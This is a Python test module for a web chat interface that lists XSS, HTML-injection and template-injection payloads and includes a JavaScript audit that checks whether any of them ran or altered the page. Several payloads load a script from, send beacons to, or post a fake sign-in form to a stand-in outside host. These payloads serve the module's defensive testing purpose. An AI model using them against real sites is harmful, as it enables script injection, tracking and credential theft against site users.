"""Nothing goes in; texts come out that a careless page would run, load, send or lay over itself, and checks of pages.

Each would set `window.hacked`, open a dialog, ask OUTSIDE for something, or put a form, frame or overlay on the page.
"""

from __future__ import annotations

from collections.abc import Sequence

from playwright.sync_api import Page

OUTSIDE = "http://outside.test"
RUN = "window.hacked=1"

PAYLOADS = (
    # scripts
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt src={OUTSIDE}/s.js></sCrIpT>",
    f"<script type=module>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    "<script>alert(1)</script>",
    # event handlers in every quoting
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror=`{RUN}`>",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"' onmouseover='{RUN}' x='",
    f'" onfocus="{RUN}" autofocus="',
    f"'><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>run</marquee>",
    f"<p style='animation:x' onanimationstart={RUN}>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    # beacons
    f"<img src={OUTSIDE}/i.png>",
    f"<img srcset='{OUTSIDE}/a.png 1x'>",
    f"<picture><source srcset={OUTSIDE}/p.png><img></picture>",
    f"<link rel=stylesheet href={OUTSIDE}/l.css>",
    f"<link rel=prefetch href={OUTSIDE}/pre>",
    f"<style>@import '{OUTSIDE}/i.css';</style>",
    f"<p style='background:url({OUTSIDE}/b.png)'>",
    f"<table background={OUTSIDE}/t.png>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}/m'>",
    f"<base href={OUTSIDE}/>",
    f"<video poster={OUTSIDE}/v.png>",
    f"<svg><image href={OUTSIDE}/g.png></svg>",
    f"<svg><use href={OUTSIDE}/u.svg#u></use></svg>",
    # addresses
    f"<a href=javascript:{RUN}>go</a>",
    f"<a href='java&#115;cript:{RUN}'>go</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>go</a>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    # Markdown, LaTeX, templates
    f"![beacon]({OUTSIDE}/md.png)",
    f"[go](javascript:{RUN})",
    f"[ref]: {OUTSIDE}/ref",
    f"<{OUTSIDE}/auto>",
    "**bold** _thin_ `tick` ~~gone~~",
    "$x^2$ and $$\\frac{1}{2}$$",
    f"$\\href{{javascript:{RUN}}}{{go}}$",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    # forms, frames, overlays
    f"<form action={OUTSIDE}><input name=word><button>Sign in</button></form>",
    f"<button formaction={OUTSIDE}>Sign in</button>",
    f"<iframe src={OUTSIDE}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<object data={OUTSIDE}/o></object>",
    f"<embed src={OUTSIDE}/e>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>over</div>",
    "<style>*{position:fixed!important;inset:0}</style>",
    "<dialog open>Your session has ended</dialog>",
    "<textarea autofocus>",
    "<plaintext>",
    # entities and odd characters
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<img src=x\u2028onerror={RUN}>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
)
# What is taken out of a text when it is read; what is left must do no harm either.
UNSEEN = (
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<img src=x\x0bonerror={RUN}>",
    f"\u202e<script>{RUN}</script>\u202c",
    f"\U000e003c\U000e0073<script>{RUN}</script>",
    f"<\u200bimg src=x onerror={RUN}>",
    f"\ufeff<svg/onload={RUN}>",
)
# Each as the path of a file, with a folder before every "/". Between two slashes no folder has a name; browsers take two
# backslashes for them.
NAMES = tuple(f"z/{each}.txt".replace("//", "\\\\") for each in PAYLOADS)

PLACES = "#head, #conversations, #narrowing, #evidence, #chat .message-row, main, header, dialog, nav, .text"
OURS = (
    "a article b blockquote button caption code dd details div dl dt em fieldset form h1 h2 h3 header input label legend li "
    "main mark nav noscript ol option p pre progress section select small span strong summary table tbody td th thead tr "
    "ul svg line circle text title gradio-app"
)
# Tags that no page of ours makes, what would run or load, and addresses that lead to where none of ours does.
AUDIT = """([places, tags]) => {
  const ours = new Set(tags.split(" ")), faults = [], here = [];
  const boxes = [...document.querySelectorAll(places)].filter(each => !each.querySelector("#chat"));
  for (const box of boxes) here.push(box, ...box.querySelectorAll("*"));
  for (const each of new Set(here)) {
    const tag = each.localName, said = each.outerHTML.slice(0, 160);
    const gradios = each.closest("#chat .message-row") && each.closest("svg, .avatar-container, .icon-button-wrapper");
    if (!ours.has(tag) && !gradios && each.id !== "confirm") faults.push(`<${tag}> ${said}`);
    if (tag === "form" && !each.matches("form.act, #search, dialog#confirm form")) faults.push(`form ${said}`);
    if (["a", "form"].includes(tag) && each.matches("[href], [action]")) {
      const url = new URL(each.getAttribute("href") ?? each.getAttribute("action"), location.href);
      const isSource = each.matches("a[rel~=noopener][rel~=noreferrer]") && /^https?:$/.test(url.protocol);
      if (url.host !== location.host && !isSource) faults.push(`address ${said}`);
    }
  }
  for (const each of document.querySelectorAll("*")) {
    const said = each.outerHTML.slice(0, 160);
    if ([...each.attributes].some(a => /^on/i.test(a.name) || a.value.trim().toLowerCase().startsWith("javascript:")
        && !["value", "content", "title", "aria-label", "data-title"].includes(a.name)))
      faults.push(`handler ${said}`);
    if (["iframe", "object", "embed", "base", "marquee", "math", "video", "audio"].includes(each.localName) && !each.matches('base[href="./"]'))
      faults.push(`<${each.localName}> ${said}`);
  }
  const top = document.elementFromPoint(innerWidth / 2, innerHeight / 2);
  if (top?.textContent.trim() === "over") faults.push("overlay");
  if (window.hacked !== undefined) faults.push("something ran");
  return faults; }"""


def faults(page: Page) -> list[str]:
    """What of the page is not of our making, and what ran."""
    found: list[str] = page.evaluate(AUDIT, [PLACES, OURS])
    return found


def groups(texts: Sequence[str], size: int) -> list[str]:
    """The texts joined into one for every `size` of them."""
    return [" ".join(texts[start : start + size]) for start in range(0, len(texts), size)]
